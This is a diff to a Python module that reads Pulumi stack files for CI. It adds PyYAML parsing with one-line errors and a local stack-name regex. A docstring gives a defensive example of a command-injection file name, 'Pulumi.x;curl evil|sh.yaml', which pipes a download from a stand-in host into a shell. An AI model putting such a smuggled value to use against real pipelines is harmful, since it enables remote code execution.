@@ -15,6 +15,8 @@ import re
 from pathlib import Path
 from typing import Any
 
+import yaml
+
 
 ENVIRONMENT_ORDER = ("dev", "staging", "prod")  # deploy order: dev first, prod last
 
@@ -34,10 +36,16 @@ def runner_project(stack: str) -> str:
 
 
 def _entry(path: Path) -> dict[str, Any]:
-    from infra.cli.stack_file import read
+    from infra.cli.option_files import OptionFileError
 
     stack = checked_stack_name(path)
-    config = read(path).config  # the safe reader: any bytes give a one-line error, never a traceback
+    try:  # PyYAML alone (this runs in CI before the dependencies): any bytes give one line, never a traceback
+        document = yaml.safe_load(path.read_bytes().decode("utf-8", errors="replace"))
+    except yaml.YAMLError as exc:
+        mark = getattr(exc, "problem_mark", None)
+        raise OptionFileError(f"stacks/{path.name}:{mark.line + 1 if mark else 1}: is not YAML ({' '.join(str(getattr(exc, 'problem', None) or exc).split())})") from None
+    config = document.get("config") if isinstance(document, dict) else None
+    config = config if isinstance(config, dict) else {}
     delivery = config.get("higgsfield:delivery") if isinstance(config.get("higgsfield:delivery"), dict) else {}
     entry: dict[str, Any] = {"stack": stack, "region": config.get("aws:region"), "environment": config.get("higgsfield:environment")}
     if delivery:
@@ -55,15 +63,19 @@ def _entry(path: Path) -> dict[str, Any]:
     return entry
 
 
+# infra.config.base.DNS_LABEL, the stack names the config model takes (a test checks they are one):
+# repeated here because this module runs in CI with PyYAML alone (no pydantic).
+STACK_NAME = r"^[a-z0-9]([-a-z0-9]{0,28}[a-z0-9])?$"
+
+
 def checked_stack_name(path: Path) -> str:
     """The stack a stack file's name names, refused unless it is a stack name (a lowercase DNS
     label of at most 30): the name goes into CI job matrices, role names and shell commands, so a
     file named `Pulumi.x;curl evil|sh.yaml` must never become a stack."""
     from infra.cli.option_files import OptionFileError
-    from infra.config.base import DNS_LABEL
 
     stack = path.name[len("Pulumi."):-len(".yaml")]
-    if not re.fullmatch(DNS_LABEL, stack):
+    if not re.fullmatch(STACK_NAME, stack):
         raise OptionFileError(f"stacks/{path.name}: {stack[:60]!r} is not a stack name (a lowercase DNS label of at most 30: a-z, 0-9, '-'): rename the file")
     return stack
 
